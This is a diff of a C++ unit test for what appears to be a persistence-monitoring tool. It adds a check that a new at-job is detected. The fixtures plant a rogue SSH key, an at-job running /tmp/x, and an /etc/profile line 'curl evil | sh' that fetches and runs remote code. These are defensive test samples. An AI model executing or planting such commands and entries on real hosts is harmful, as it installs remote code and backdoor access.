@@ -132,6 +132,13 @@ TEST_F(ExtendedPlaces, EachLinuxPlaceChangedAloneGivesItsLines) {
            [&] { Write(root + "/home/jane/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n"); },
            added("ssh keys", "ssh-ed25519 AAAA evil=/home/jane/.ssh/authorized_keys")},
       });
+  // A restart knows every place it read, empty ones too: nothing is taken
+  // in silently again.
+  Start(*source);
+  Write(root + "/var/spool/cron/atjobs/a0001", "#!/bin/sh\n/tmp/x\n");
+  const TLines at = Cycle();
+  ASSERT_EQ(at.size(), 4U) << ::testing::PrintToString(at);
+  EXPECT_EQ(at[1], "Registry Key: at jobs");
   // A shell start file by its digest: an edit is its removal and addition.
   Write(root + "/etc/profile", "umask 022\ncurl evil | sh\n");
   const TLines lines = Cycle();
